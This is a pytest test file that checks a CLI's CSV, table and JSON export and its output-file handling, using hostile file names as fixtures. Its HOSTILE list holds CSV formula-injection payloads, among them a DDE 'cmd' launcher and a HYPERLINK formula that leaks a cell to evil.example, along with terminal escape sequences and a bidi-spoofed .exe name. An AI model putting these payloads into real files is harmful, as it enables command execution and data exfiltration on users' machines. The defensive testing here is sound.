"""`signdigits results` with hostile file names: CSV a spreadsheet cannot run, a table
that sends nothing raw to the terminal, JSON exact. The real command, a real SQLite file."""

from __future__ import annotations

import csv
import io
import json
import uuid

import pytest

from tests.conftest import make_env

# Each is a legal file name on Linux.
HOSTILE = [
    "=cmd|' /C calc'!A0.jpg",
    '=HYPERLINK("http://evil.example/?"&A1,"click").jpg',
    "+1+2.jpg",
    "-2+3.jpg",
    "@SUM(A1).jpg",
    "\tTAB.jpg",
    "\rCR.jpg",
    "one\rtwo.jpg",
    "new\nline.jpg",
    "ansi\x1b[2J\x1b[31mred.jpg",
    "bell\x07del\x7f.jpg",
    "bidi\u202egpj.exe",
    "back\\slash.jpg",
]
PLAIN = ["plain.jpg", "ünïcødé ✋.jpg", "a-b=c.jpg"]
FORMULA_ERROR = "=1+1 cannot decode"


@pytest.fixture
def results_database(tmp_path) -> tuple[str, str]:
    """A job whose rows hold the hostile names, one with a hostile error message."""
    from sqlalchemy import update

    from signdigits.db.batches import refresh_batch_counts
    from signdigits.db.jobs import create_job
    from signdigits.db.manifest import add_manifest
    from signdigits.db.migrate import upgrade
    from signdigits.db.models import Image, ImageStatus, Job, utcnow
    from signdigits.db.session import session_factory

    url = f"sqlite:///{tmp_path / 'sd.db'}"
    upgrade(url)
    names = HOSTILE + PLAIN
    job_id = uuid.uuid4().hex
    with session_factory(url).begin() as session:
        create_job(session, job=Job(id=job_id, root="/photos", threshold=0.5, batch_size=64,
                                    total_images=len(names), total_batches=1,
                                    model_version="test", inline=False))
        add_manifest(session, job_id=job_id, rows=[(0, name) for name in names])
        session.execute(update(Image).values(
            status=ImageStatus.DONE, digit=3, confidence=0.25, below_threshold=True,
            worker="-host", finished_at=utcnow(), hand={"hands": [{"box": [4, 8, 150, 230]}]},
            reading="hand landmarks"))
        session.execute(update(Image).where(Image.path == "plain.jpg").values(
            status=ImageStatus.ERROR, digit=None, confidence=None, below_threshold=None,
            error=FORMULA_ERROR, hand=None, reading=None))
        refresh_batch_counts(session, job_id=job_id)  # what a worker's store does
    return url, job_id


def _results(url: str, cwd, *args: str) -> bytes:
    import subprocess
    import sys

    result = subprocess.run([sys.executable, "-m", "signdigits", "results", "latest", *args],
                            env=make_env(database_url=url), cwd=cwd, capture_output=True,
                            timeout=120, stdin=subprocess.DEVNULL)
    assert result.returncode == 0, result.stderr.decode(errors="replace")[-3000:]
    return result.stdout


def test_csv_cells_cannot_run_as_formulas_and_every_row_stays_one(results_database, tmp_path):
    url, _ = results_database
    raw = _results(url, tmp_path, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert len(rows) == len(HOSTILE) + len(PLAIN)  # a "\r" in a name split its row before
    by_path = {row["path"]: row for row in rows}
    for name in HOSTILE:
        expected = "'" + name if name[0] in "=+-@\t\r" else name
        assert expected in by_path, (name, sorted(by_path))
    for name in PLAIN:
        assert name in by_path
    for row in rows:
        assert not row["path"].startswith(("=", "+", "-", "@", "\t", "\r")), row["path"]
        assert row["worker"] == "'-host"
    assert by_path["plain.jpg"]["error"] == "'" + FORMULA_ERROR
    assert by_path["a-b=c.jpg"]["confidence"] == "0.25"  # numbers are left as numbers
    # The hand's columns come last, so programs that read by position are unaffected.
    header = raw.decode("utf-8").split("\r\n", 1)[0].split(",")
    assert header[:5] == ["path", "digit", "confidence", "below_threshold", "error"]
    assert header[-7:] == ["hand_box", "reading", "digits", "hand_count", "reviewed_digits",
                          "final_digits", "threshold"]
    assert (by_path["a-b=c.jpg"]["hand_box"], by_path["a-b=c.jpg"]["reading"]) == (
        "4 8 150 230", "hand landmarks")
    assert (by_path["plain.jpg"]["hand_box"], by_path["plain.jpg"]["reading"]) == ("", "")


def test_the_table_escapes_every_control_character(results_database, tmp_path):
    url, _ = results_database
    text = _results(url, tmp_path).decode("utf-8")
    lines = text.split("\n")
    assert lines[0].startswith("# job ")  # the job's id and name, then the header, the rows
    assert lines[-1] == "" and len(lines) - 3 == len(HOSTILE) + len(PLAIN)
    for char in text:
        assert char == "\n" or char.isprintable(), repr(char)
    for shown in ("ansi\\x1b[2J\\x1b[31mred.jpg", "one\\rtwo.jpg", "new\\nline.jpg",
                  "bidi\\u202egpj.exe", "bell\\x07del\\x7f.jpg", "back\\\\slash.jpg"):
        assert shown in text, shown


def test_json_keeps_every_name_exact(results_database, tmp_path):
    url, _ = results_database
    target = tmp_path / "out" / "results.json"
    target.parent.mkdir()
    assert _results(url, tmp_path, "--format", "json", "--output", str(target)) == b""
    rows = json.loads(target.read_text(encoding="utf-8"))
    assert sorted(row["path"] for row in rows) == sorted(HOSTILE + PLAIN)
    by_path = {row["path"]: row for row in rows}
    assert list(by_path["a-b=c.jpg"])[-8:] == ["hand_box", "reading", "digits", "hand_count",
                                              "reviewed_digits", "final_digits", "hands",
                                              "threshold"]
    assert by_path["a-b=c.jpg"]["hand_box"] == [4, 8, 150, 230]
    assert by_path["plain.jpg"]["hand_box"] is None and by_path["plain.jpg"]["reading"] is None
    assert list(target.parent.iterdir()) == [target]  # no temporary file left beside it


def test_output_into_a_device_a_fifo_or_through_a_link_keeps_them(results_database, tmp_path):
    """`-o` had renamed its finished file over whatever was there: /dev/full (and, as
    root, /dev/null) became a regular file, a FIFO and a symlink too."""
    import os
    import stat
    import threading

    url, _ = results_database
    target = tmp_path / "target.json"
    link = tmp_path / "link.json"
    link.symlink_to(target)
    _results(url, tmp_path, "--format", "json", "--output", str(link))
    assert link.is_symlink() and json.loads(target.read_text())  # the link's target got it

    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    received = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    _results(url, tmp_path, "--format", "json", "--output", str(fifo))
    reader.join(30)
    assert stat.S_ISFIFO(fifo.lstat().st_mode) and json.loads(received[0])

    if os.geteuid() == 0:  # a device node of our own, as /dev/null is
        null = tmp_path / "null"
        os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))
        _results(url, tmp_path, "--format", "csv", "--output", str(null))
        assert stat.S_ISCHR(null.lstat().st_mode)


def test_output_to_dev_stdout_goes_down_the_pipe_or_onto_the_end_of_the_file(
        results_database, tmp_path):
    """realpath had made /dev/stdout into a pipe:[N] no one can open; into `>> file` it
    replaced the file's earlier lines."""
    import subprocess
    import sys

    url, _ = results_database
    piped = _results(url, tmp_path, "--format", "json", "--output", "/dev/stdout")
    assert json.loads(piped)
    appended = tmp_path / "app.csv"
    appended.write_text("earlier line\n")
    with open(appended, "a") as handle:
        result = subprocess.run(
            [sys.executable, "-m", "signdigits", "results", "latest", "--format", "csv",
             "--output", "/dev/stdout"], env=make_env(database_url=url), cwd=tmp_path,
            stdout=handle, stderr=subprocess.PIPE, timeout=120, stdin=subprocess.DEVNULL)
    assert result.returncode == 0, result.stderr.decode(errors="replace")[-3000:]
    lines = appended.read_text().splitlines()
    assert lines[0] == "earlier line" and lines[1].startswith("path,") and len(lines) > 2


def test_output_onto_a_full_disk_names_the_file_and_leaves_nothing(results_database, tmp_path):
    """It was a bare "error: No space left on device", naming no file."""
    import os
    import shutil
    import subprocess
    import sys

    from tests.conftest import require

    require(os.geteuid() == 0 and shutil.which("mount") is not None,
            "mounting a small tmpfs needs root")
    url, _ = results_database
    full = tmp_path / "full"
    full.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4k", "tmpfs", str(full)], check=True)
    try:
        (full / "filler").write_bytes(b"x" * 4096)
        result = subprocess.run(
            [sys.executable, "-m", "signdigits", "results", "latest", "--format", "json",
             "--output", str(full / "out.json")], env=make_env(database_url=url), cwd=tmp_path,
            capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)
        assert result.returncode == 1, result.stderr
        [line] = result.stderr.strip().splitlines()
        assert line == f"error: --output {full / 'out.json'}: No space left on device", line
        assert sorted(p.name for p in full.iterdir()) == ["filler"]  # no temporary left
    finally:
        subprocess.run(["umount", str(full)], check=True)
